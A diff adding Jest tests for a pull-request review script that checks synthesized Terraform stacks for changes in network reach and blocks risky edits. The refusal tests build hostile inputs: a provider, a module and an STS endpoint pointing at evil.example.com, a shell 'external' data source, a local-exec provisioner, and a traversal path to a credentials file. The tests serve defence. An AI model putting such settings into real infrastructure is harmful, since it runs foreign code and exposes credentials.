@@ -1,0 +1,114 @@
+import fs from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { command } from "../../scripts/review";
+import { loadEnvironments } from "../../src/config/load";
+import { call } from "../support/call";
+import { outputFolder } from "../support/environments";
+
+const work = fs.mkdtempSync(path.join(os.tmpdir(), "review-"));
+const base = outputFolder(...loadEnvironments("config"));
+afterAll(() => fs.rmSync(work, { recursive: true }));
+
+// biome-ignore lint/suspicious/noExplicitAny: edits reach into any place of any resource
+type Json = any;
+
+/** A project folder of a pull request in which a stack is another. */
+function pullRequest(stack: string, edit: (json: Json) => void): string {
+  const folder = fs.mkdtempSync(path.join(work, "folder-"));
+  fs.cpSync("config", path.join(folder, "config"), { recursive: true });
+  fs.cpSync(base, path.join(folder, "cdktf.out"), { recursive: true });
+  const file = path.join(folder, "cdktf.out", "stacks", stack, "cdk.tf.json");
+  const json = JSON.parse(fs.readFileSync(file, "utf8"));
+  edit(json);
+  fs.writeFileSync(file, JSON.stringify(json));
+  return folder;
+}
+
+const review = (folder: string) => call(command, "--pull-request", folder, "--base", base);
+
+test("of what is proved and changes nothing is one line, and all may be planned", async () => {
+  expect(await review(pullRequest("prod-org-acme", () => {}))).toEqual({
+    status: 0,
+    stderr: "",
+    stdout: "## Changes of reach\n\nNo change of reach: dev, prod.\n\n",
+  });
+});
+
+test("of what is not proved tells the problems first and what is weaker, and it may be planned: no rule of planning is broken", async () => {
+  const opened = pullRequest("prod-database", ({ resource }) => {
+    for (const rule of Object.values<Json>(resource.aws_vpc_security_group_ingress_rule)) {
+      delete rule.referenced_security_group_id;
+      rule.cidr_ipv4 = "10.0.0.0/8";
+    }
+  });
+  const { status, stdout, stderr } = await review(opened);
+  expect([status, stderr]).toEqual([0, ""]);
+  expect(stdout).toMatch(/^\*\*Not proved by the code of the base branch\.\*\*/);
+  expect(stdout.split("\n").slice(0, 5).join("\n")).toContain("it admits 10.0.0.0/8");
+  expect(stdout).toMatch(/\n## Changes of reach: \d+ weaker\n/);
+});
+
+describe("refuses to have planned", () => {
+  test.each<[string, (json: Json) => void]>([
+    [
+      "a program as a data source",
+      ({ data }) => Object.assign(data, { external: { x: { program: ["sh"] } } }),
+    ],
+    [
+      "a provider from elsewhere",
+      ({ terraform }) =>
+        Object.assign(terraform.required_providers.aws, { source: "evil.example.com/hashicorp/aws" }),
+    ],
+    [
+      "a provider with a file of credentials",
+      ({ provider }) => Object.assign(provider.aws[0], { shared_config_files: ["../../../config/aws.ini"] }),
+    ],
+    [
+      "a provider with endpoints of its own",
+      ({ provider }) => Object.assign(provider.aws[0], { endpoints: [{ sts: "https://evil.example.com" }] }),
+    ],
+    [
+      "a provisioner",
+      ({ resource }) =>
+        Object.assign(Object.values<Json>(resource.aws_iam_role)[0], {
+          provisioner: [{ "local-exec": { command: "id" } }],
+        }),
+    ],
+    ["a module", (json) => Object.assign(json, { module: { x: { source: "evil.example.com/x" } } })],
+    ["another state", ({ terraform }) => Object.assign(terraform.backend.s3, { bucket: "another" })],
+  ])("%s, whatever exceptions of the pull request's config allow", async (_, edit) => {
+    const folder = pullRequest("prod-org-acme", edit);
+    const { status, stderr } = await review(folder);
+    expect([status, stderr]).toEqual([
+      1,
+      expect.stringMatching(/^prod: prod-org-acme(\/\S+)?: .* \([\w-]+\)\n/),
+    ]);
+  });
+
+  test("a stack of no environment", async () => {
+    const folder = pullRequest("prod-org-acme", () => {});
+    const file = path.join(folder, "cdktf.out", "manifest.json");
+    const manifest = JSON.parse(fs.readFileSync(file, "utf8"));
+    const name = "other-network";
+    manifest.stacks[name] = {
+      ...manifest.stacks["prod-network"],
+      name,
+      synthesizedStackPath: `stacks/${name}/cdk.tf.json`,
+      workingDirectory: `stacks/${name}`,
+    };
+    fs.writeFileSync(file, JSON.stringify(manifest));
+    fs.mkdirSync(path.join(folder, "cdktf.out/stacks", name));
+    fs.writeFileSync(path.join(folder, "cdktf.out/stacks", name, "cdk.tf.json"), "{}");
+    expect(await review(folder)).toMatchObject({
+      status: 1,
+      stderr: expect.stringContaining("other-network belongs to no environment"),
+    });
+  });
+});
+
+test("config that this code cannot read is said to need code that is merged before it", async () => {
+  const folder = pullRequest("prod-org-acme", () => {});
+  fs.appendFileSync(path.join(folder, "config/prod/environment.yaml"), "newKey: true\n");
+  expect(await review(folder)).toMatchObject({ status: 2, stderr: expect.stringContaining("newKey") });
+});
